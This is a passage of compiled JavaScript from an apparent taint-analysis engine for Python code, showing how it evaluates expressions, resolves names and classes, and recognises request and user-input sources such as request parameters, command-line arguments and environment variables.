            let known = true;
            let facts = CONSTANT_VALUE;
            for (const pair of node.namedChildren) {
              if (pair.type !== "pair") {
                if (pair.type !== "comment") {
                  known = false;
                  facts = join3(facts, dataOf(this.evaluate(pair, reader, next)));
                }
                continue;
              }
              const key = pair.childForFieldName("key");
              const value = pair.childForFieldName("value");
              const keyValue = key ? this.evaluate(key, reader, next) : UNKNOWN_VALUE;
              const itemValue = value ? this.evaluate(value, reader, next) : UNKNOWN_VALUE;
              facts = join3(facts, join3(dataOf(keyValue), dataOf(itemValue)));
              if (typeof keyValue.literal === "string" || typeof keyValue.literal === "number")
                entries.set(String(keyValue.literal), itemValue);
              else
                known = false;
            }
            return { facts: facts.facts, ...known ? { entries } : {} };
          }
          case "comparison_operator":
            return this.comparison(node, reader, next);
          case "not_operator": {
            const operand = node.childForFieldName("argument") ?? node.lastNamedChild;
            const truth = operand ? truthiness(this.evaluate(operand, reader, next)) : void 0;
            return truth === void 0 ? CONSTANT_VALUE : literalValue(!truth);
          }
          case "boolean_operator": {
            const left = node.childForFieldName("left");
            const right = node.childForFieldName("right");
            if (!left || !right)
              return UNKNOWN_VALUE;
            const first = this.evaluate(left, reader, next);
            const truth = truthiness(first);
            const isAnd = node.childForFieldName("operator")?.type === "and";
            if (truth !== void 0)
              return truth === isAnd ? this.evaluate(right, reader, next) : first;
            return join3(first, this.evaluate(right, reader, next));
          }
          case "unary_operator": {
            const operand = node.childForFieldName("argument") ?? node.lastNamedChild;
            const value = operand ? this.evaluate(operand, reader, next) : UNKNOWN_VALUE;
            const operator = node.childForFieldName("operator")?.type;
            if (typeof value.literal === "number")
              return literalValue(operator === "-" ? -value.literal : operator === "~" ? ~value.literal : value.literal);
            return dataOf(value);
          }
          case "parenthesized_expression":
            return node.firstNamedChild ? this.evaluate(node.firstNamedChild, reader, next) : UNKNOWN_VALUE;
          case "list_splat":
          case "dictionary_splat":
            return node.firstNamedChild ? dataOf(this.evaluate(node.firstNamedChild, reader, next)) : UNKNOWN_VALUE;
          case "await":
            return this.directSource(node, reader) ?? (node.firstNamedChild ? this.evaluate(node.firstNamedChild, reader, next) : UNKNOWN_VALUE);
          case "keyword_argument":
            return this.evaluate(node.childForFieldName("value") ?? node.lastNamedChild, reader, next);
          case "named_expression": {
            const value = this.evaluate(node.childForFieldName("value") ?? node.lastNamedChild, reader, next);
            const name = node.childForFieldName("name");
            if (name && reader.walk && reader.env)
              this.bindName(name.text, name, through(value, step(name.text, name)), reader.env, reader.walk, false);
            return value;
          }
          case "conditional_expression": {
            const [body, condition, alternative] = node.namedChildren;
            const truth = condition ? truthiness(this.evaluate(condition, reader, next)) : void 0;
            const branch = (expression, positive) => {
              if (!expression)
                return CONSTANT_VALUE;
              const refined = condition ? this.guards(condition, positive, 0) : [];
              return this.evaluate(expression, refined.length > 0 ? this.withOverlay(reader, refined, (name) => sanitise(this.readName(name, reader), EVERY_SINK)) : reader, next);
            };
            if (truth === true)
              return branch(body, true);
            if (truth === false)
              return branch(alternative, false);
            return join3(branch(body, true), branch(alternative, false));
          }
          case "list_comprehension":
          case "set_comprehension":
          case "generator_expression":
          case "dictionary_comprehension":
            return this.comprehension(node, reader, next);
          case "lambda":
            return { facts: [UNKNOWN_FACT], callable: node };
          case "yield": {
            const value = node.firstNamedChild ? this.evaluate(node.firstNamedChild, reader, next) : literalValue(null);
            if (reader.walk)
              reader.walk.analysis.returns = join3(reader.walk.analysis.returns, node.text.startsWith("yield from") ? elementOf(value) : value);
            return UNKNOWN_VALUE;
          }
          case "identifier":
            return this.readIdentifier(node, reader);
          case "attribute":
            return this.directSource(node, reader) ?? this.attribute(node, reader, next);
          case "subscript":
            return this.directSource(node, reader) ?? this.subscript(node, reader, next);
          case "call":
            return this.directSource(node, reader) ?? this.call(node, reader, next);
          default:
            return UNKNOWN_VALUE;
        }
      }
      allOf(nodes, reader, depth) {
        let result = CONSTANT_VALUE;
        for (const node of nodes)
          if (node && node.type !== "comment")
            result = join3(result, dataOf(this.evaluate(node, reader, depth)));
        return result;
      }
      withOverlay(reader, names, value) {
        const overlay = new Map(reader.overlay ?? []);
        for (const name of names)
          overlay.set(name, value(name));
        return { ...reader, overlay };
      }
      /**
       * A string built from parts (concatenation, `%`, f-strings, `.format`): the parts' data, each marked `tail` when
       * constant text before it fixes where a URL or path points (`https://host/` + x, `/path?` + x).
       */
      stringBuilding(node, reader, depth) {
        if (node.type === "binary_operator" && (node.childForFieldName("operator")?.type !== "%" || !["string", "concatenated_string"].includes(node.childForFieldName("left")?.type ?? "")))
          return void 0;
        const shape = foldString(node);
        if (!shape)
          return void 0;
        if (shape.dynamic.length === 0)
          return shape.constant ? literalValue(shape.text) : void 0;
        const segments = shape.text.split(HOLE);
        if (segments.length - 1 !== shape.dynamic.length)
          return void 0;
        let text = segments[0];
        let result = CONSTANT_VALUE;
        shape.dynamic.forEach((part, index) => {
          const tail = fixesDestination(text);
          const value = dataOf(this.evaluate(part, reader, depth));
          result = join3(result, tail ? mapFacts(value, (fact) => ({ ...fact, tail: true })) : value);
          text += `${HOLE}${segments[index + 1]}`;
        });
        return result;
      }
      arithmetic(node, reader, depth) {
        const operator = node.childForFieldName("operator")?.type;
        const operands = [];
        let current = node;
        while (current.type === "binary_operator" && current.childForFieldName("operator")?.type === operator && operands.length < 1e4) {
          const right = current.childForFieldName("right");
          if (right)
            operands.push(right);
          const left = current.childForFieldName("left");
          if (!left)
            break;
          current = left;
        }
        operands.push(current);
        operands.reverse();
        const values = operands.map((operand) => this.evaluate(operand, reader, depth));
        const literal = values.every((value) => value.literal !== void 0) ? foldArithmetic(operator ?? "", values.map((value) => value.literal)) : void 0;
        let text = "";
        const parts = values.map((value, index) => {
          const tail = operator === "+" && fixesDestination(text);
          text += typeof value.literal === "string" ? value.literal : operandText(operands[index]);
          return tail ? mapFacts(dataOf(value), (fact) => ({ ...fact, tail: true })) : dataOf(value);
        });
        const data = joinAll(parts);
        if (literal !== void 0)
          return { facts: data.facts, literal };
        if (operator === "+" && values.every((value) => value.items))
          return { facts: data.facts, items: values.flatMap((value) => value.items) };
        return data;
      }
      comparison(node, reader, depth) {
        const operands = node.namedChildren;
        const operators = node.children.filter((child) => !child.isNamed).map((child) => child.type);
        const values = operands.map((operand) => this.evaluate(operand, reader, depth));
        let result = true;
        for (let index = 0; index < operators.length && result !== void 0; index++) {
          const outcome = compare(operators[index], values[index], values[index + 1]);
          result = outcome === void 0 ? void 0 : result && outcome;
        }
        return result === void 0 ? CONSTANT_VALUE : literalValue(result);
      }
      comprehension(node, reader, depth) {
        let inner = reader;
        for (const clause of node.namedChildren) {
          if (clause.type === "for_in_clause") {
            const left = clause.childForFieldName("left");
            const right = clause.childForFieldName("right");
            if (!left || !right)
              continue;
            const element = elementOf(this.evaluate(right, inner, depth));
            const names = left.type === "identifier" ? [left] : left.descendantsOfType("identifier");
            inner = this.withOverlay(inner, names.map((name) => name.text), (name) => through(element, step(name, left)));
          } else if (clause.type === "if_clause" && clause.firstNamedChild) {
            const checked = this.guards(clause.firstNamedChild, true, 0);
            if (checked.length > 0)
              inner = this.withOverlay(inner, checked, (name) => sanitise(this.readName(name, inner), EVERY_SINK));
          }
        }
        const body = node.childForFieldName("body");
        if (!body)
          return UNKNOWN_VALUE;
        return dataOf(this.evaluate(body, inner, depth));
      }
      // --- names ----------------------------------------------------------------------------------------------------
      readIdentifier(node, reader) {
        const name = node.text;
        const overlaid = reader.overlay?.get(name);
        if (overlaid)
          return overlaid;
        const iterable = reader.walk ? void 0 : comprehensionIterable(node);
        if (iterable) {
          const element = elementOf(this.evaluate(iterable, { ...reader }, 1));
          return element.facts.length > 0 ? through(element, step(name, node)) : element;
        }
        if (reader.globals)
          return this.moduleName(name, reader);
        if (reader.env) {
          const value = reader.env.get(name);
          if (value) {
            const rebound = reader.owner.id === this.module.root.id ? this.globalRebinds(name, reader) : void 0;
            return rebound ? join3(value, rebound) : value;
          }
          if (reader.walk?.globals.has(name))
            return this.moduleName(name, reader);
          if (this.module.scopeFor(reader.owner).bindings.has(name))
            return UNKNOWN_VALUE;
          return this.outerName(name, reader.owner, reader);
        }
        const analysis = reader.analysis ?? this.analyses.get(reader.owner.id);
        const recorded = analysis?.uses.get(node.id);
        if (recorded) {
          const rebound = reader.owner.id === this.module.root.id ? this.globalRebinds(name, reader) : void 0;
          return rebound ? join3(recorded, rebound) : recorded;
        }
        if (this.module.scopeFor(reader.owner).bindings.has(name))
          return this.unrecordedLocal(name, reader.owner, analysis);
        return this.outerName(name, reader.owner, reader);
      }
      /** A name read by an expression built on the fly (`this.readName` for overlays): its value where the reader is. */
      readName(name, reader) {
        return reader.overlay?.get(name) ?? reader.env?.get(name) ?? this.unrecordedLocal(name, reader.owner, reader.analysis ?? this.analyses.get(reader.owner.id));
      }
      /** A local name at a use the analysis did not record: every value it was bound to, and unknown. */
      unrecordedLocal(name, owner, analysis) {
        const bindings = this.module.scopeFor(owner).bindings.get(name) ?? [];
        return joinAll([UNKNOWN_VALUE, ...bindings.map((binding) => analysis?.assigned.get(binding.target.id) ?? CONSTANT_VALUE)]);
      }
      /** A name of an enclosing function or of the module, read from a nested function: any value it was ever bound to. */
      outerName(name, from, reader) {
        let owner = from;
        while (owner && owner.id !== this.module.root.id) {
          owner = this.module.functionAt(owner) ?? this.module.root;
          if (owner.id === this.module.root.id)
            return this.moduleName(name, reader);
          const scope = this.module.scopeFor(owner);
          const bindings = scope.bindings.get(name);
          if (!bindings)
            continue;
          const values = [];
          let needsAnalysis = false;
          for (const binding of bindings) {
            if (binding.kind === "parameter")
              values.push({ facts: [{ kind: "parameter", flow: null, sanitised: 0, tail: false, parameter: { owner, name } }] });
            else if (binding.value?.type === "function_definition" || binding.value?.type === "class_definition")
              values.push({ facts: [UNKNOWN_FACT], callable: binding.value });
            else
              needsAnalysis = true;
          }
          if (needsAnalysis) {
            const { analysis, cut } = this.analysisOf(owner, reader.chain);
            if (reader.walk)
              reader.walk.cut = Math.min(reader.walk.cut, cut);
            if (!analysis)
              return UNKNOWN_VALUE;
            for (const binding of bindings) {
              if (binding.kind !== "parameter" && binding.value?.type !== "function_definition" && binding.value?.type !== "class_definition") {
                values.push(analysis.assigned.get(binding.target.id) ?? (analysis.complete ? CONSTANT_VALUE : UNKNOWN_VALUE));
              }
            }
            if (!analysis.complete)
              values.push(UNKNOWN_VALUE);
          }
          return joinAll(values);
        }
        const imported = this.module.imports.aliases.get(name);
        if (imported && REQUEST_PROXIES.has(imported))
          return { facts: [UNKNOWN_FACT], requestObject: "request" };
        return UNKNOWN_VALUE;
      }
      /**
       * A module-level name read by a function: every value any of its bindings gives it, each evaluated on its own
       * (a function runs after the module's code, in no known order), not by interpreting the whole module.
       */
      moduleName(name, reader) {
        const bindings = this.module.scopeFor(this.module.root).bindings.get(name);
        const rebound = this.globalRebinds(name, reader);
        if (!bindings) {
          if (rebound)
            return rebound;
          const imported = this.module.imports.aliases.get(name);
          if (imported && REQUEST_PROXIES.has(imported))
            return { facts: [UNKNOWN_FACT], requestObject: "request" };
          return UNKNOWN_VALUE;
        }
        let value = joinAll(bindings.map((binding) => this.globalBinding(binding, reader)));
        if (!value.callable && !value.instanceOf && this.module.assignedByPath(name, this.module.root))
          value = join3(dataOf(value), UNKNOWN_VALUE);
        return rebound ? join3(value, rebound) : value;
      }
      /**
       * What functions declaring `global name` assign to it (they may run before any read): every value they bind, or
       * unknown where their analysis is cut short. Undefined when no function rebinds the name.
       */
      globalRebinds(name, reader) {
        const owners = this.module.globalRebinds().get(name);
        if (!owners)
          return void 0;
        const values = [];
        for (const owner of owners) {
          const { analysis, cut } = this.analysisOf(owner, reader.chain);
          if (reader.walk)
            reader.walk.cut = Math.min(reader.walk.cut, cut);
          if (!analysis) {
            values.push(UNKNOWN_VALUE);
            continue;
          }
          for (const binding of this.module.scopeFor(owner).bindings.get(name) ?? []) {
            values.push(analysis.assigned.get(binding.target.id) ?? (binding.kind === "assign" && analysis.complete ? CONSTANT_VALUE : UNKNOWN_VALUE));
          }
          if (!analysis.complete)
            values.push(UNKNOWN_VALUE);
        }
        return joinAll(values);
      }
      globalBinding(binding, reader) {
        if (binding.value?.type === "function_definition" || binding.value?.type === "class_definition")
          return { facts: [UNKNOWN_FACT], callable: binding.value };
        const known = this.globalValues.get(binding.target.id);
        if (known)
          return known;
        const globals = reader.globals ?? { inProgress: /* @__PURE__ */ new Set(), cycle: false };
        if (globals.inProgress.has(binding.target.id)) {
          globals.cycle = true;
          return UNKNOWN_VALUE;
        }
        const outerCycle = globals.cycle;
        globals.cycle = false;
        globals.inProgress.add(binding.target.id);
        let value;
        try {
          const global = { owner: this.module.root, chain: reader.chain, ...reader.walk ? { walk: reader.walk } : {}, globals };
          const expression = binding.value;
          switch (binding.kind) {
            case "assign":
            case "walrus":
              value = expression ? through(this.evaluate(expression, global, 0), step(binding.target.text, binding.target)) : UNKNOWN_VALUE;
              break;
            case "unpack":
            case "loop":
              value = expression ? elementOf(this.evaluate(expression, global, 0)) : UNKNOWN_VALUE;
              break;
            case "augment":
              value = expression ? join3(dataOf(this.evaluate(expression, global, 0)), UNKNOWN_VALUE) : UNKNOWN_VALUE;
              break;
            default:
              value = UNKNOWN_VALUE;
          }
        } finally {
          globals.inProgress.delete(binding.target.id);
        }
        if (!globals.cycle)
          this.globalValues.set(binding.target.id, value);
        globals.cycle ||= outerCycle;
        return value;
      }
      /** What a parameter holds inside its own function, from the function's role: request data, a number, unknown. */
      parameterSource(fn, name) {
        if (name === "self" || name === "cls" || fn.type !== "function_definition")
          return fn.type === "lambda" ? { facts: [{ kind: "parameter", flow: null, sanitised: 0, tail: false }] } : UNKNOWN_VALUE;
        const role = roleOf(fn);
        if (role.requestObjects.has(name))
          return UNKNOWN_VALUE;
        const binding = this.module.scopeFor(fn).bindings.get(name)?.find((candidate) => candidate.kind === "parameter");
        const parameter = binding?.value;
        const type = parameter?.childForFieldName("type")?.text ?? "";
        const defaultValue = parameter?.childForFieldName("value");
        const target = binding?.target ?? fn;
        if (CONVERTED_PARAMETER_TYPE.test(type) || convertedRouteParameter(fn, name) || this.closedChoice(parameter?.childForFieldName("type") ?? null))
          return { facts: [{ kind: "parameter", flow: null, sanitised: EVERY_SINK, tail: false }] };
        if (defaultValue && DEPENDENCY_DEFAULT.test(defaultValue.text))
          return UNKNOWN_VALUE;
        if (role.routeParameters && !(defaultValue && !role.decorated)) {
          const note = `parameter of view ${fn.childForFieldName("name")?.text ?? ""}`.trim();
          return { facts: [{ kind: "request", flow: extendFlow(null, step(name, target, note)), sanitised: 0, tail: false, ...role.decorated ? {} : { origin: "view-parameter" } }] };
        }
        if (role.commandLine)
          return { facts: [{ kind: "user-input", flow: extendFlow(null, step(name, target, "command-line parameter")), sanitised: 0, tail: false, origin: "argv" }] };
        return { facts: [{ kind: "parameter", flow: extendFlow(null, step(name, target, "parameter")), sanitised: 0, tail: false }] };
      }
      /**
       * Whether an annotation admits only developer-written constants, which the framework checks before the view runs
       * (FastAPI, pydantic): `Literal["a", 1]` of literals only, or an enumeration defined in this module whose members
       * are literals or `auto()`. Anything else (an imported enum, a member computed at import) is not known closed.
       */
      closedChoice(type) {
        const annotation = type?.firstNamedChild;
        if (!annotation)
          return false;
        if (annotation.type === "identifier") {
          const named = this.module.classDefinitions().filter((candidate) => candidate.childForFieldName("name")?.text === annotation.text);
          const cls = named.length === 1 && named[0].parent?.type === "module" ? named[0] : void 0;
          const bases = cls?.childForFieldName("superclasses")?.namedChildren ?? [];
          if (!cls || !bases.some((base) => ENUM_BASES.has(this.module.qualifiedName(base) ?? "")))
            return false;
          return (cls.childForFieldName("body")?.namedChildren ?? []).every((statement) => {
            if (statement.type !== "expression_statement")
              return statement.type === "function_definition" || statement.type === "decorated_definition";
            const inner = statement.firstNamedChild;
            if (inner?.type === "string")
              return true;
            const value = inner?.type === "assignment" ? inner.childForFieldName("right") : null;
            if (!value)
              return false;
            return CLOSED_LITERAL_NODES.has(value.type) || value.type === "call" && this.module.callName(value) === "enum.auto";
          });
        }
        const head = annotation.type === "subscript" ? annotation.childForFieldName("value") : annotation.type === "generic_type" ? annotation.firstNamedChild : null;
        if (!head || !CLOSED_CHOICE_TYPES.has(this.module.qualifiedName(head) ?? ""))
          return false;
        const items = annotation.type === "subscript" ? annotation.namedChildren.filter((child) => child.id !== head.id) : (annotation.namedChildren.find((child) => child.type === "type_parameter")?.namedChildren ?? []).map((child) => child.type === "type" ? child.firstNamedChild : child);
        return items.length > 0 && items.every((item) => !!item && CLOSED_LITERAL_NODES.has(item.type) && !item.namedChildren.some((part) => part.type === "interpolation"));
      }
      // --- sources --------------------------------------------------------------------------------------------------
      /** `request.GET["q"]`, `request.args.get("q")`, `await request.json()`, `sys.argv[1]`, `os.environ["X"]`, `input()`. */
      directSource(node, reader) {
        let inner = node;
        for (; ; ) {
          if (inner.type === "subscript" && inner.childForFieldName("value"))
            inner = inner.childForFieldName("value");
          else if (inner.type === "await" && inner.firstNamedChild)
            inner = inner.firstNamedChild;
          else if (inner.type === "call" && ACCESS_METHODS.has(this.module.calleeAttribute(inner) ?? "") && inner.childForFieldName("function")?.type === "attribute") {
            inner = inner.childForFieldName("function").childForFieldName("object");
          } else
            break;
        }
        const source = (kind, origin) => ({ facts: [{ kind, flow: extendFlow(null, step(node.text, node)), sanitised: 0, tail: false, ...origin ? { origin } : {} }] });
        if (inner.type === "attribute") {
          const object = inner.childForFieldName("object");
          const attribute = inner.childForFieldName("attribute")?.text ?? "";
          if (object && REQUEST_ATTRIBUTES.has(attribute) && this.requestObject(object, reader)) {
            if (MIXED_REQUEST_ATTRIBUTES.has(attribute))
              return this.clientSetKey(node, inner) ? source("request") : UNKNOWN_VALUE;
            return source("request");
          }
          if (object && this.propertyNames().has(attribute) && this.wrapperProperty(object, attribute, reader))
            return source("request");
          const handler = object?.type === "identifier" && object.text === "self" ? this.handlerBaseOf(enclosingClassOf(inner)) : null;
          if (handler?.attributes.has(attribute))
            return source("request", handler.origin);
          const name = INPUT_ATTRIBUTE_NAMES.has(attribute) ? this.module.qualifiedName(inner) : void 0;
          const origin = name ? INPUT_ATTRIBUTES[name] : void 0;
          if (origin && this.isImportedName(inner))
            return source("user-input", origin);
        }
        if (inner.type === "call") {
          const callee = inner.childForFieldName("function");
          if (callee?.type === "attribute") {
            const method = callee.childForFieldName("attribute")?.text ?? "";
            const object = callee.childForFieldName("object");
            const owner = this.requestObject(object, reader);
            if (owner === "wrapper" || owner === "request" && REQUEST_METHODS.has(method))
              return source("request");
            if (object.type === "identifier" && object.text === "self" && this.handlerBaseOf(enclosingClassOf(inner))?.methods.has(method))
              return source("request");
            if (NETWORK_READ_METHODS.has(method))
              return source("user-input", "network");
            if (STREAM_READ_METHODS.has(method) && this.opensStream(object)) {
              return source("user-input", this.module.qualifiedName(object)?.startsWith("sys.stdin") ? "stdin" : "file");
            }
          }
          const name = this.module.calleeLastNames(inner).some((last) => INPUT_CALL_NAMES.has(last)) ? this.module.callName(inner) ?? "" : "";
          if (INPUT_BUILTINS[name] && this.module.isBuiltin(name))
            return source("user-input", INPUT_BUILTINS[name]);
          if (INPUT_CALLS[name])
            return source("user-input", INPUT_CALLS[name]);
        }
        return void 0;
      }
      /**
       * The handler base a class is built on, directly or through classes of this module (`class Base(View)`,
       * `class Page(Base)`); a base that does not resolve is none of them.
       */
      handlerBaseOf(cls, seen = /* @__PURE__ */ new Set()) {
        if (!cls || seen.has(cls.id))
          return null;
        const known = this.handlerBases.get(cls.id);
        if (known !== void 0)
          return known;
        let found = null;
        for (const base of cls.childForFieldName("superclasses")?.namedChildren ?? []) {
          const name = this.module.qualifiedName(base) ?? "";
          found = HANDLER_BASES.find((spec) => spec.base.test(name)) ?? null;
          if (!found && base.type === "identifier") {
            const local = this.module.classDefinitions().find((definition) => definition.childForFieldName("name")?.text === base.text);
            found = this.handlerBaseOf(local ?? null, /* @__PURE__ */ new Set([...seen, cls.id]));
          }
          if (found)
            break;
        }
        this.handlerBases.set(cls.id, found);
        return found;
      }
      /** `sys.argv` is the module's only when `sys` is not a local name. */
      isImportedName(attribute) {
        let root = attribute;
        while (root.type === "attribute" && root.childForFieldName("object"))
          root = root.childForFieldName("object");
        return root.type !== "identifier" || !this.module.scopeOf(root).bindings.has(root.text) || this.module.scopeOf(root).bindings.get(root.text).every((binding) => binding.kind === "import");
      }
      properties;
      /** Names of the module's `@property`/`@cached_property` methods (a cheap test before evaluating the object). */
      propertyNames() {
        this.properties ??= new Set(this.module.root.descendantsOfType("function_definition").filter((fn) => classOfMethod(fn) && decoratorsOf(fn).some((name) => PROPERTY_DECORATORS.test(name))).map((fn) => fn.childForFieldName("name")?.text ?? ""));
        return this.properties;
      }
      /** `obj.name` where obj is a local class's instance built around the request and `name` is one of its properties. */
      wrapperProperty(object, attribute, reader) {
        if (this.requestObject(object, reader) !== "wrapper")
          return false;
        const owner = this.evaluate(object, reader, MAX_EXPRESSION_DEPTH - 8).instanceOf;
        const method = owner ? methodOf(owner, attribute) : void 0;
        return !!method && decoratorsOf(method).some((name) => PROPERTY_DECORATORS.test(name));
      }
      requestObject(node, reader) {
        if (node.type === "attribute") {
          const object = node.childForFieldName("object");
          if (node.childForFieldName("attribute")?.text === "request" && object?.type === "identifier" && object.text === "self")
            return "request";
        }
        if (node.type !== "identifier" && !(node.type === "attribute" && pathOf(node)))
          return void 0;
        return this.evaluate(node, reader, MAX_EXPRESSION_DEPTH - 8).requestObject;
      }
      /**
       * WSGI `environ` / Django `META` hold the client's headers and query (`HTTP_*`, `QUERY_STRING`, `PATH_INFO`) next to
       * what the server and middleware put there (`nova.context`, `REMOTE_USER`, `wsgi.input`): only a client-set key, or
       * a key not known before run time, is request data.
       */
      clientSetKey(access, mapping) {
        let key;
        for (let current = access; current && current.id !== mapping.id; current = current.type === "subscript" ? current.childForFieldName("value") : current.type === "call" ? current.childForFieldName("function")?.childForFieldName("object") ?? null : current.firstNamedChild) {
          if (current.type === "subscript")
            key = current.childForFieldName("subscript");
          else if (current.type === "call")
            key = argumentList(current)[0];
        }
        if (!key)
          return false;
        const name = this.module.constant(key);
        if (typeof name !== "string")
          return true;
        return CLIENT_SET_ENVIRON_KEY.test(name);
      }
      /** A file, URL or stdin stream: `open(p)`, `urlopen(u)`, a name bound to one, `sys.stdin`. */
      opensStream(node) {
        const opener = (expression) => {
          if (expression.type !== "call")
            return false;
          const name = this.module.callName(expression) ?? "";
          return STREAM_OPENERS.has(name) || /\.open$/.test(name);
        };
        if (opener(node) || this.module.qualifiedName(node) === "sys.stdin")
          return true;
        if (node.type !== "identifier")
          return false;
        const scope = this.module.scopeOf(node);
        return (scope.bindings.get(node.text) ?? []).some((binding) => binding.value && opener(binding.value));
      }
      // --- attributes, subscripts, calls ------------------------------------------------------------------------------
      attribute(node, reader, depth) {
        const path = pathOf(node);
        if (path) {
          const analysis = reader.analysis ?? this.analyses.get(reader.owner.id);
          const known = reader.env ? reader.env.get(path) : analysis?.uses.get(node.id);
          if (known)
            return known;
        }
        const object = node.childForFieldName("object");
        if (!object)
          return UNKNOWN_VALUE;
        if (object.type === "attribute" && object.childForFieldName("attribute")?.text === "request" && object.childForFieldName("object")?.text === "self")
          return UNKNOWN_VALUE;
        const instance = this.instanceAttribute(node, object, reader);
        if (instance)
          return instance;
        const inner = this.evaluate(object, reader, depth);
        if (inner.requestObject || inner.opaque)
          return UNKNOWN_VALUE;
        const viewObject = (fact) => {
          if (!fact.parameter || object.type !== "identifier")
            return false;
          const role = roleOf(fact.parameter.owner);
          return role.routeParameters && !role.decorated;
        };
        if (inner.facts.length === 0)
          return inner.instanceOf || inner.callable ? UNKNOWN_VALUE : CONSTANT_VALUE;
        return mapFacts(dataOf(inner), (fact) => viewObject(fact) ? UNKNOWN_FACT : fact);
      }
      /**
       * `self.attr` in a method, not set on this path: what the class's other methods assign to `self.attr` (a method
       * may have run before this one), and unknown (a subclass or outside code may set it too). Undefined when the
       * object is not the method's own first parameter or no other method of the class assigns the attribute.
       */
      instanceAttribute(node, object, reader) {
        const method = reader.owner;
        if (object.type !== "identifier" || method.type !== "function_definition")
          return void 0;
        const owner = classOfMethod(method);
        const first = method.childForFieldName("parameters")?.namedChildren[0];
        if (!owner || !first || parameterName(first)?.text !== object.text)
          return void 0;
        if ((this.module.scopeFor(method).bindings.get(object.text) ?? []).some((binding) => binding.kind !== "parameter"))
          return void 0;
        const attribute = node.childForFieldName("attribute")?.text ?? "";
        const all = this.instanceAssignments(owner).get(attribute);
        if (!all)
          return this.classConstant(owner, attribute);
        const targets = all?.filter((target) => target.method.id !== method.id);
        if (!all || !targets || targets.length === 0 || targets.length > MAX_ATTRIBUTE_WRITERS)
          return void 0;
        const closed = targets.length === all.length && this.closedAttribute(owner, attribute);
        const values = closed ? [] : [UNKNOWN_VALUE];
        for (const { method: writer, target } of targets) {
          const { analysis, cut } = this.analysisOf(writer, reader.chain);
          if (reader.walk)
            reader.walk.cut = Math.min(reader.walk.cut, cut);
          values.push(analysis?.assigned.get(target.id) ?? UNKNOWN_VALUE);
          if (analysis && !analysis.complete)
            values.push(UNKNOWN_VALUE);
        }
        return joinAll(values);
      }
      /**
       * `self.table` where no method sets it and the class body binds it once to a constant (`table = "products"`): that
       * constant, when the attribute is closed (nothing else in the module writes it, no subclass can override it).
       */
      classConstant(owner, attribute) {
        const bindings = (owner.childForFieldName("body")?.namedChildren ?? []).filter((statement) => {
          const inner = statement.type === "expression_statement" ? statement.firstNamedChild : statement.type === "decorated_definition" ? statement.childForFieldName("definition") : statement;
          if (inner?.type === "assignment" || inner?.type === "augmented_assignment")
            return inner.childForFieldName("left")?.text === attribute;
          return inner?.childForFieldName("name")?.text === attribute || statement.type === "for_statement" || statement.type === "with_statement";
        });
        const assignment = bindings.length === 1 && bindings[0].type === "expression_statement" ? bindings[0].firstNamedChild : null;
        const right = assignment?.type === "assignment" ? assignment.childForFieldName("right") : null;
        if (!right || !this.closedAttribute(owner, attribute))
          return void 0;
        const constant = this.module.constant(right);
        if (constant === void 0)
          return void 0;
        return typeof constant === "string" || typeof constant === "number" || typeof constant === "boolean" || constant === null ? literalValue(constant) : CONSTANT_VALUE;
      }
      /**
       * A simple class's attribute: the class has no base but `object`, no class in the module derives from it, nothing
       * in it uses setattr/`__dict__`, and the only writes of `.attr` in the module are whole `self.attr = …` in its
       * methods (no `obj.attr = …` elsewhere, no `self.attr[k] = …`, no `self.attr.append(…)`).
       */
      closedAttribute(owner, attribute) {
        const bases = owner.childForFieldName("superclasses")?.namedChildren ?? [];
        if (bases.some((base) => base.text !== "object"))
          return false;
        const name = owner.childForFieldName("name")?.text ?? "";
        if (this.module.classDefinitions().some((other) => other.childForFieldName("superclasses")?.namedChildren.some((base) => base.text === name || base.text.endsWith(`.${name}`))))
          return false;
        const text = owner.text;
        if (/\bsetattr\b|__dict__|__setattr__|\bvars\s*\(/u.test(text))
          return false;
        const writes = new RegExp(String.raw`\.\s*${attribute}\s*(?:\[[^=\n]*?\]\s*)*(?:[-+*/%&|^@]|//|\*\*|<<|>>)?=(?!=)`, "gu");
        const source = this.module.source;
        let whole = 0;
        for (const match of source.matchAll(writes)) {
          if (match.index < owner.startIndex || match.index >= owner.endIndex || match[0].includes("["))
            return false;
          whole++;
        }
        if (whole !== (this.instanceAssignments(owner).get(attribute)?.length ?? 0))
          return false;
        const mutators = new RegExp(String.raw`\.\s*${attribute}\s*\.\s*(?:${[...WRITER_METHODS, "pop", "remove", "clear", "read", "read_string", "read_dict", "insert"].join("|")})\s*\(`, "u");
        return !mutators.test(source);
      }
      /** Per class: attribute name → the `self.attr = …` targets in its methods (direct members only). */
      instanceAssignments(owner) {
        const known = this.classAttributes.get(owner.id);
        if (known)
          return known;
        const attributes = /* @__PURE__ */ new Map();
        for (const member of owner.childForFieldName("body")?.namedChildren ?? []) {
          const method = member.type === "decorated_definition" ? member.childForFieldName("definition") : member;
          if (method?.type !== "function_definition")
            continue;
          const first = method.childForFieldName("parameters")?.namedChildren[0];
          const self = first ? parameterName(first)?.text : void 0;
          if (!self)
            continue;
          for (const assignment of method.descendantsOfType(["assignment", "augmented_assignment"])) {
            const left = assignment.childForFieldName("left");
            const targets = left && SEQUENCE_PATTERNS.has(left.type) ? left.namedChildren : left ? [left] : [];
            for (const target of targets) {
              if (target.type !== "attribute" || target.childForFieldName("object")?.text !== self)
                continue;
              const name = target.childForFieldName("attribute")?.text;
              if (!name)
                continue;
              const list = attributes.get(name) ?? [];
              list.push({ method, target });
              attributes.set(name, list);
            }
          }
        }
        this.classAttributes.set(owner.id, attributes);
        return attributes;
      }
      subscript(node, reader, depth) {
        const object = node.childForFieldName("value");
        if (!object)
          return UNKNOWN_VALUE;
        const container = this.evaluate(object, reader, depth);
        const keys = node.childrenForFieldName("subscript");
        const key = keys.length === 1 && keys[0].type !== "slice" ? this.evaluate(keys[0], reader, depth).literal : void 0;
        if (container.entries && (typeof key === "string" || typeof key === "number"))
          return container.entries.get(String(key)) ?? CONSTANT_VALUE;
        if (container.items && typeof key === "number" && Number.isInteger(key))
          return container.items[key < 0 ? key + container.items.length : key] ?? CONSTANT_VALUE;
        if (typeof container.literal === "string" && typeof key === "number" && Number.isInteger(key)) {
          const character = container.literal.at(key);
          return character === void 0 ? CONSTANT_VALUE : literalValue(character);
        }
        return elementOf(container);
      }
      /** `name` is the builtin: neither imported nor defined at module level (a module may define its own `str`). */
      isUnshadowedBuiltin(name) {
        return this.module.isBuiltin(name) && !this.module.scopeFor(this.module.root).bindings.has(name);
      }
      call(call, reader, depth) {
        const callee = call.childForFieldName("function");
        if (!callee)
          return UNKNOWN_VALUE;
        const name = this.module.callName(call) ?? "";
        const argNodes = argumentList(call);
